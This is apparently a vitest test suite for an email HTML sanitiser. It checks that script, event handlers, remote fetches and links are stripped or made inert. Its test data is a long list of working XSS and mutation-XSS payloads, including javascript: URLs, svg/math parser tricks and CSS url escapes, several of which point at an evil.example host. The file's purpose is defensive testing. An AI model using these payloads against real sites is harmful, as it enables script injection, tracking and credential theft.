import * as fc from 'fast-check'
import { type DefaultTreeAdapterTypes, parse } from 'parse5'
import { describe, expect, it } from 'vitest'
import { maxBlocked, maxDepth } from './html/survey.ts'
import { documentPolicy, maxHtml, safeHtml } from './safe-html.ts'

// The sanitiser reads with htmlparser2; what it lets through is judged here by parse5, which builds the tree that a
// browser builds (WHATWG HTML §13.2), so that markup which changes its meaning when read again is caught.
interface Element {
  name: string
  namespace: string
  attributes: Record<string, string>
}

function elementsOf(html: string): Element[] {
  const found: Element[] = []
  const waiting: DefaultTreeAdapterTypes.Node[] = [parse(html)]
  for (let node = waiting.pop(); node; node = waiting.pop()) {
    if ('content' in node) waiting.push(node.content)
    if ('childNodes' in node) for (const child of node.childNodes) waiting.push(child)
    if (!('tagName' in node)) continue
    const attributes = Object.fromEntries(node.attrs.map(({ name, value }) => [name, value]))
    found.push({ name: node.tagName, namespace: node.namespaceURI, attributes })
  }
  return found
}

const ownElements = ['html', 'head', 'meta', 'meta', 'style', 'body']
const allowedElements = new Set(
  `address article aside blockquote center div footer header hr main p pre h1 h2 h3 h4 h5 h6 section dd dl dt li ol ul
  figure figcaption abbr b big br cite code del dfn em font i ins kbd mark q s samp small span strike strong sub sup tt
  u var wbr img caption col colgroup table tbody td tfoot th thead tr`.split(/\s+/),
)
const allowedAttributes = new Set(
  `align valign dir lang width height border cellpadding cellspacing colspan rowspan start bgcolor color face size style
  class title src alt`.split(/\s+/),
)

/** Fails on any element, attribute or address that could run, fetch, send or lead somewhere. */
function expectHarmless(html: string): void {
  const elements = elementsOf(html)
  const foreign = elements.filter(({ name }) => !allowedElements.has(name)).map(({ name }) => name)
  expect(foreign.sort()).toEqual([...ownElements].sort())
  for (const { name, namespace, attributes } of elements) {
    expect(namespace).toBe('http://www.w3.org/1999/xhtml')
    if (!allowedElements.has(name)) continue
    for (const [attribute, value] of Object.entries(attributes)) {
      expect(allowedAttributes, `${attribute} on ${name}`).toContain(attribute)
      if (attribute === 'style') expect(value).not.toMatch(/url|import|expression|\\|position|@|\/\/|var\(|image/i)
      if (attribute === 'class') expect(['link', 'image', 'address', 'cut']).toContain(value)
      if (attribute === 'src') expect(value).toMatch(/^data:image\/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+$/)
      if (attribute !== 'title' && attribute !== 'alt') expect(value).not.toMatch(/\/\/|javascript|vbscript/i)
    }
  }
}

const noParts = () => undefined
const show = (html: string) => safeHtml(html, noParts)

/** The words of the body, as a reader would see them. */
function wordsOf(html: string): string {
  const words: string[] = []
  const waiting: DefaultTreeAdapterTypes.Node[] = [parse(html)]
  for (let node = waiting.pop(); node; node = waiting.pop()) {
    if (node.nodeName === 'style') continue
    if ('value' in node) words.push(node.value)
    if ('childNodes' in node) for (const child of [...node.childNodes].reverse()) waiting.push(child)
  }
  return words.join('').replace(/\s+/g, ' ').trim()
}

const hostile: Record<string, string> = {
  script: '<p>a</p><script>alert(1)</script>',
  'script in capitals with a slash': '<SCRIPT/SRC="http://evil.example/x.js"></SCRIPT>',
  'script inside a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'unclosed script': '<p>a<script>alert(1)',
  'svg with a script': '<svg><script>alert(1)</script></svg>',
  'svg with onload': '<svg/onload=alert(1)>',
  'svg with a self-closed style': '<svg><style/><img src=x onerror=alert(1)></svg>',
  'svg use of a remote file': '<svg><use href="https://evil.example/a.svg#x"/></svg>',
  'svg animate': '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  'math and mglyph':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'form inside math': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>',
  'noscript title': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'noembed, noframes, xmp': '<noembed><img src=x onerror=a()></noembed><xmp><img src=x onerror=a()></xmp>',
  'textarea that closes late': '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'title that closes late': '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  'select, option, encoded': '<select><option>&lt;img src=x onerror=alert(1)&gt;</option></select>',
  template: '<template><img src=x onerror=alert(1)><script>alert(1)</script></template>',
  plaintext: '<plaintext><img src=x onerror=alert(1)>',
  'meta refresh': '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  'base address': '<base href="https://evil.example/"><img src=a.png><a href=b>b</a>',
  'link to a style sheet': '<link rel=stylesheet href="//evil.example/a.css">',
  'style import': '<style>@import "https://evil.example/a.css"; body{background:url(//evil.example/b.png)}</style>',
  'style with an escape': '<style>@\\69mport url(h\\74tps://evil.example/a.css)</style>',
  'inline url': '<p style="background:url(https://evil.example/a.png)">a</p>',
  'inline url with escapes': '<p style="background:\\75\\72\\6c(https://evil.example/a.png)">a</p>',
  'inline url in a comment': '<p style="color:red;background-color:u/**/rl(https://evil.example/a.png)">a</p>',
  'inline image-set': `<p style="background-image:image-set('https://evil.example/a.png' 1x)">a</p>`,
  'inline expression': '<p style="width:expression(alert(1));behavior:url(a.htc)">a</p>',
  'fixed over the page': '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">a</div>',
  'javascript address': '<a href="javascript:alert(1)">a</a>',
  'javascript address in entities': '<a href="&#106;&#97;vascript&colon;alert&lpar;1&rpar;">a</a>',
  'javascript address with a tab': '<a href="java&Tab;script:alert(1)">a</a>',
  'javascript address with control bytes': '<a href="\x01javascript:alert(1)">a</a>',
  'javascript image': '<img src="javascript:alert(1)"><img dynsrc="javascript:alert(1)">',
  'data document': '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a><iframe src="data:text/html,x"></iframe>',
  'data svg image': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'object, embed, applet':
    '<object data=//evil.example/a><embed src=//evil.example/b></object><applet code=a></applet>',
  'form and formaction':
    '<form action=https://evil.example/><input name=q><button formaction=//evil.example/b>go</button></form>',
  'video, audio, source, track':
    '<video poster=//evil.example/p src=//evil.example/v><source src=//evil.example/s><track src=//evil.example/t></video>',
  'background attributes': '<body background=//evil.example/a><table background=//evil.example/b><td background=c>',
  srcset:
    '<img srcset="https://evil.example/1.png 1x, //evil.example/2.png 2x"><picture><source srcset=//evil.example/3>',
  'event handlers': '<p onclick=a() onmouseover="b()" ONLOAD=c() on\x00error=d()>a</p><body onload=e()>',
  'event handler after a slash': '<img/src=x/onerror=alert(1)><b/onclick=alert(1)>x</b>',
  'broken comment': '<!--><img src=x onerror=alert(1)>-->',
  'broken comment that ends in a bang': '<!-- --!><img src=x onerror=alert(1)> -->',
  'conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if !mso]><p>a</p><![endif]>',
  cdata: '<![CDATA[<img src=x onerror=alert(1)>]]><svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>',
  'processing instruction': '<?xml version="1.0"?><?php <script>alert(1)</script> ?>',
  'broken attribute': '<p title=`"<img src=x onerror=alert(1)>"`><p a="><img src=x onerror=alert(1)>',
  'unclosed tag at the end': '<p>a</p><img src=x onerror=alert(1) ',
  'tables fostering markup': '<table><svg><style><td></style><img src=x onerror=alert(1)></table>',
  'nested formatting': '<a href=//evil.example/><b><a href=//evil.example/2><table><a href=//evil.example/3>x</b>',
  'custom element and is': '<x-frame src=//evil.example/a></x-frame><p is=x-frame>a</p>',
  'dialog, details, popover': '<details open ontoggle=a()>x</details><dialog open>y</dialog><p popover id=z>z</p>',
  'names that clobber': '<img name=getElementById><p id=location>a</p><object id=cookie></object>',
  'our own classes': '<span class="cut address" title="//evil.example/">x</span>',
  'prototype names': '<p __proto__=a constructor=b hasOwnProperty=c>a</p><constructor>b</constructor>',
}

describe('safeHtml', () => {
  it.each(Object.entries(hostile))('%s', (_, html) => expectHarmless(show(html).html))

  it('stays harmless for any sequence of hostile pieces', () => {
    const pieces = [
      ...[
        '<svg>',
        '</svg>',
        '<math>',
        '<mtext>',
        '<style>',
        '</style>',
        '<!--',
        '-->',
        '<table>',
        '<td>',
        '</p>',
        '<p>',
      ],
      ...[
        '<noscript>',
        '</noscript>',
        '<title>',
        '</title>',
        '<select>',
        '<a href=//e.example>',
        '</a>',
        '<form>',
        '"',
        "'",
      ],
      ...[
        '<img src=x onerror=a()>',
        '&lt;script&gt;',
        '<script>',
        '</script>',
        '<b title="',
        '>',
        '<![CDATA[',
        ']]>',
        '`',
      ],
      ...['<textarea>', '</textarea>', '<foreignObject>', '<annotation-xml encoding="text/html">', '<mglyph>', '<xmp>'],
    ]
    const documents = fc.array(fc.constantFrom(...pieces), { maxLength: 14 }).map((parts) => parts.join(''))
    fc.assert(
      fc.property(documents, (html) => expectHarmless(show(html).html)),
      { numRuns: 500 },
    )
  })

  it('is a whole document with its own policy', () => {
    const { html } = show('<p>Bonjour</p>')
    expect(html.startsWith('<!doctype html>')).toBe(true)
    const metas = elementsOf(html).filter(({ name }) => name === 'meta')
    expect(metas.map(({ attributes }) => attributes)).toContainEqual({
      'http-equiv': 'Content-Security-Policy',
      content: documentPolicy,
    })
    expect(wordsOf(html)).toBe('Bonjour')
  })

  it('lists what was asked for and not fetched, each address once', () => {
    const { blocked } =
      show(`<body background="//a.example/1"><img src="https://b.example/2"><img src="https://b.example/2">
      <img srcset="https://c.example/3 1x, d.png 2x"><p style="background:\\75rl('http://d.example/4')">
      <style>@import "https://e.example/5";</style><video poster=https://f.example/6></video>
      <meta http-equiv=refresh content="0; url=https://g.example/7"><link rel=stylesheet href=https://h.example/8>
      <img src=" ht\ntps://i.example/9"><a href="https://j.example/10">a link is shown, not fetched</a>
      <form action=https://k.example/11></form><img src=cid:x><img src=local.png>`)
    expect([...blocked].sort()).toEqual([
      '//a.example/1',
      'http://d.example/4',
      'https://b.example/2',
      'https://c.example/3',
      'https://e.example/5',
      'https://f.example/6',
      'https://g.example/7',
      'https://h.example/8',
      'https://i.example/9',
      'https://k.example/11',
    ])
  })

  it('lists no more addresses than a page can show', () => {
    const many = Array.from({ length: 5_000 }, (_, i) => `<img src="https://a.example/${i}">`).join('')
    expect(show(many).blocked).toHaveLength(maxBlocked)
  })

  it('makes links inert and says where they lead, unless the words say it already', () => {
    const { html } = show(`<a href="https://evil.example/login?a=1&amp;b=2">your <b>bank</b></a>,
      <a href="https://lighthouse.example/">lighthouse.example</a>, <a href="mailto:nora@lighthouse.example">nora@lighthouse.example</a>`)
    expect(wordsOf(html)).toBe(
      'your bank [https://evil.example/login?a=1&b=2], lighthouse.example, nora@lighthouse.example',
    )
    const links = elementsOf(html).filter(({ attributes }) => attributes.class === 'link')
    expect(links).toHaveLength(3)
    expect(links.every(({ name, attributes }) => name === 'span' && !('href' in attributes))).toBe(true)
  })

  it('keeps the words and the harmless styles', () => {
    const { html } = show(
      '<div style="COLOR: #C00; position:absolute; text-align:right; width:120px"><font color="red">Été</font> &lt;b&gt; &amp;amp;</div>',
    )
    expect(html).toContain('<div style="color:#C00;text-align:right;width:120px"><font color="red">Été</font>')
    expect(wordsOf(html)).toBe('Été <b> &amp;')
  })

  it('shows words that the sender hid', () => {
    expect(show('<p style="display:none;visibility:hidden">hidden</p>').html).toContain('<p>hidden</p>')
  })

  describe('images', () => {
    const png = Buffer.from('89504e470d0a1a0a0000000d', 'hex')
    const parts: Record<string, { type: string; bytes: Buffer }> = {
      'logo@lighthouse.example': { type: 'image/png', bytes: png },
      lie: { type: 'image/png', bytes: Buffer.from('<svg onload=alert(1)>') },
      huge: { type: 'image/png', bytes: Buffer.concat([png, Buffer.alloc(6 * 1024 * 1024)]) },
      large: { type: 'image/png', bytes: Buffer.concat([png, Buffer.alloc(2 * 1024 * 1024)]) },
    }
    const withParts = (html: string) => safeHtml(html, (id) => (Object.hasOwn(parts, id) ? parts[id] : undefined)).html
    const sources = (html: string) =>
      elementsOf(html).flatMap(({ name, attributes }) => (name === 'img' ? [attributes.src] : []))

    it('come from the parts of the mail', () => {
      const html = withParts('<img src="cid:logo%40lighthouse.example" alt="Lighthouse" width=40 onload=a()>')
      expectHarmless(html)
      expect(sources(html)).toEqual([`data:image/png;base64,${png.toString('base64')}`])
    })

    it('are judged by their bytes, not by their declared type', () => {
      const html = withParts('<img src="cid:lie" alt="a picture"><img src="cid:none">')
      expectHarmless(html)
      expect(sources(html)).toEqual([])
      expect(wordsOf(html)).toBe('[image: a picture][image]')
    })

    it('are limited one by one and together', () => {
      expect(sources(withParts('<img src="cid:huge">'))).toEqual([])
      expect(sources(withParts('<img src="cid:large">'.repeat(50)))).toHaveLength(7)
    })

    it('are opened once each, and no more than two hundred', () => {
      const asked: string[] = []
      const many = Array.from({ length: 300 }, (_, i) => `<img src="cid:p${i}">`).join('')
      const { html } = safeHtml(many + many, (id) => {
        asked.push(id)
        return { type: 'image/png', bytes: png }
      })
      expect(asked).toEqual(Array.from({ length: 200 }, (_, i) => `p${i}`))
      expect(sources(html)).toHaveLength(400)
    })
  })

  describe('limits', () => {
    // Milliseconds: each takes less than one second when nothing else runs, and minutes where the cost is quadratic.
    const unhurried = 20_000

    it('cuts what is too long, with a note', () => {
      const { html } = show(`<p>${'word '.repeat(maxHtml / 5)}</p>`)
      expect(html.length).toBeLessThan(maxHtml + 3_000)
      expect(wordsOf(html)).toContain('Its raw bytes hold the rest')
      expectHarmless(html)
    })

    it('cuts what is nested too deeply, with a note, and in little time', () => {
      const started = performance.now()
      const { html } = show(`<p>first</p>${'<b>'.repeat(700_000)}last`)
      expect(performance.now() - started).toBeLessThan(unhurried)
      expect(html.match(/<b>/g)?.length).toBe(maxDepth)
      expect(wordsOf(html)).toMatch(/^firstFrom here on/)
    })

    it.each([
      ['closing tags that close nothing', '</b>'.repeat(500_000)],
      ['attributes', `<p ${'a=1 '.repeat(500_000)}>`],
      ['declarations', `<p style="${'color:red;'.repeat(200_000)}">`],
      ['entities', '&amp;'.repeat(200_000)],
      ['entities in a link at depth', `${'<i>'.repeat(900)}<a href=x>${'&amp;'.repeat(200_000)}`],
      ['angle brackets', '<'.repeat(500_000)],
      ['comments', '<!--'.repeat(500_000)],
      ['slashes in a style', `<style>${'/'.repeat(2_000_000)}</style>`],
      ['url( in a style', `<style>${'url('.repeat(500_000)}</style>`],
    ])('takes linear time for many %s', (_, html) => {
      const started = performance.now()
      show(html)
      expect(performance.now() - started).toBeLessThan(unhurried)
    })
  })
})
